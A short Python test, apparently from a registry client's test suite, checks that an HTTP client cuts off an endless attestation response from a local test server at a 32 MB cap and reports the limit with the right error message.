    """An endless attestation body was cut at 32 MB, and the message said 30 MiB."""
    from pin_from.explain import attested
    from pin_from.registry.http import BodyError, Http
    with hostile() as server:
        server.add(Endless({'Content-Type': 'application/vnd.in-toto+json'}, b'{"x": "'), path='/blobs/')
        session = Http(timeout=5)
        try:
            with pytest.raises(BodyError, match='^an answer larger than 32 MB$'):
                session.request('GET', f'{server.url}/v2/a/blobs/sha256:{"0" * 64}', cap=attested.MAX_STATEMENT)
        finally:
            session.close()
